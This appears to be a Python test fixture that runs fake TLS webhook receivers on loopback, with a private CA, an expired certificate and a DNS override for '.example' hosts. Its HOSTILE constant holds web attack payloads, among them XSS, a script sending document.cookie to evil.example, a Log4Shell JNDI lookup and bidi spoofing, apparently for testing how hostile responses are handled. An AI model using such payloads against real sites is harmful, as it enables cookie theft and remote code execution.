"""Receivers of the afternoon on loopback: TLS at the usual port, names of ``.example``, and each trouble that a receiver can have."""

from __future__ import annotations

import json
import random
import socket
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import TYPE_CHECKING, Final

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from postbacks.devtools.receiver import Answer, Received, Receiver
from tests.tls_front import tls_in_front_of

if TYPE_CHECKING:
    from benchmarks.afternoon.cast import Account

#: Networks of which the first one is taken that nobody uses: .1 answers, .2 has an expired certificate, .3 takes no connection.
_NETWORKS: Final = tuple(f"127.{number}.0" for number in range(77, 97))
_PORTS: Final = (443, 8443)
#: Imported by each Python process that finds it first on its path: names of the stage lead to loopback.
_NAMES: Final = """
import json, pathlib, socket
_NAMES = json.loads((pathlib.Path(__file__).parent / "names.json").read_text())
_ask = socket.getaddrinfo

def _answer(host, *args, **kwargs):
    name = host.decode() if isinstance(host, bytes) else host
    if isinstance(name, str) and name.endswith(".example"):
        if name not in _NAMES:
            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
        host = _NAMES[name]
    return _ask(host, *args, **kwargs)

socket.getaddrinfo = _answer
"""
HOSTILE: Final = (
    b"<html><head><title>Error</title></head><body onload=\"alert('postbacks')\">\n<h1>Application error</h1>\n"
    b'<script>document.location="https://evil.example/?c="+document.cookie</script>\n'
    b"</pre></td></table><img src=x onerror=alert(1)>\n{{7*7}} ${jndi:ldap://evil.example/a}\n"
    + "Rechnung \u202egnp.exe\u202c und \u2066versteckt\u2069 \x1b[31mrot\x1b[0m\n".encode()
    + b"</body></html>\n"
)


@dataclass(slots=True)
class Receivers:
    """Receivers of all accounts.

    Attributes:
        port: of their URLs.
        env: variables with which a process reaches them.
        answers: account -> what its receiver answers; 200 without an entry.
    """

    port: int
    env: dict[str, str]
    answers: dict[str, Answer]


@contextmanager
def receivers(cast: list[Account], roles: dict[str, str], folder: Path, seed: int) -> Iterator[Receivers]:
    """Run all receivers."""
    network, port = _free_network()
    special = {roles["expired"]: f"{network}.2", roles["no connection"]: f"{network}.3"}
    names = {
        account.host: special.get(account.name, f"{network}.1")
        for account in cast
        if account.name != roles["no name"]
    }
    (folder / "names.json").write_text(json.dumps(names))
    (folder / "sitecustomize.py").write_text(_NAMES)
    authority = _Authority()
    (folder / "authority.pem").write_bytes(authority.pem)
    by_target = {f"{account.host}{account.path}": account for account in cast}
    by_target |= {f"{account.host}/inbound": account for account in cast}
    choice = random.Random(seed)
    stage = Receivers(port, {"PYTHONPATH": str(folder), "SSL_CERT_FILE": str(folder / "authority.pem")}, {})

    def answer(post: Received) -> Answer:
        account = by_target.get(post.headers.get("host", "").partition(":")[0] + post.path)
        if account is None:
            return Answer(404, b"no such tenant")
        fixed = stage.answers.get(account.name)
        wait_s = account.wait_ms / 1000 * choice.lognormvariate(0, 0.4)
        return Answer(200, b"OK", delay_s=min(wait_s, 1.5)) if fixed is None else fixed

    with ExitStack() as running:
        plain = running.enter_context(Receiver(answer, keep=False))
        for place, (hosts, days) in enumerate(
            (
                ([name for name, address in names.items() if address == f"{network}.1"], 60),
                ([_host(cast, roles["expired"])], -1),
            ),
            start=1,
        ):
            path = folder / f"server{place}.pem"
            path.write_bytes(authority.issue(hosts, days))
            front = tls_in_front_of(plain.port, str(path), str(path), host=f"{network}.{place}", at_port=port)
            running.enter_context(front)
        running.enter_context(_black_hole(f"{network}.3", port))
        yield stage


def _host(cast: list[Account], name: str) -> str:
    return next(account.host for account in cast if account.name == name)


def _free_network() -> tuple[str, int]:
    """Find a network and a port of it that this process may listen on, and nobody does."""
    for port in _PORTS:
        for network in _NETWORKS:
            with suppress(OSError), socket.create_server((f"{network}.1", port)):
                return network, port
    raise SystemExit("No network of loopback is free for the receivers: end other stages.")


@contextmanager
def _black_hole(host: str, port: int) -> Iterator[None]:
    """Listen where no connection is ever made: the queue of those that wait to be accepted is full."""
    with ExitStack() as opened:
        listener = opened.enter_context(socket.socket())
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind((host, port))
        listener.listen(0)
        for _ in range(3):
            filler = opened.enter_context(socket.socket())
            filler.setblocking(False)
            with suppress(BlockingIOError):
                filler.connect((host, port))
        yield


class _Authority:
    """Issuer of the receivers' certificates."""

    def __init__(self) -> None:
        self._key = ec.generate_private_key(ec.SECP256R1())
        self._name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Stage CA")])
        basic = x509.BasicConstraints(ca=True, path_length=None)
        own = _certificate(self._name, self._name, self._key, 90).add_extension(basic, critical=True)
        self.pem = own.sign(self._key, hashes.SHA256()).public_bytes(serialization.Encoding.PEM)

    def issue(self, hosts: list[str], days: int) -> bytes:
        """Return a certificate for these names, with its key; one that ended so many days ago where they are negative."""
        key = ec.generate_private_key(ec.SECP256R1())
        subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, hosts[0])])
        names = x509.SubjectAlternativeName([x509.DNSName(host) for host in dict.fromkeys(hosts)])
        made = _certificate(subject, self._name, key, days).add_extension(names, critical=False)
        signed = made.sign(self._key, hashes.SHA256())
        return signed.public_bytes(serialization.Encoding.PEM) + key.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )


def _certificate(
    subject: x509.Name, issuer: x509.Name, key: ec.EllipticCurvePrivateKey, days: int
) -> x509.CertificateBuilder:
    now = datetime.now(UTC)
    return (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(issuer)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(days=90))
        .not_valid_after(now + timedelta(days=days))
    )
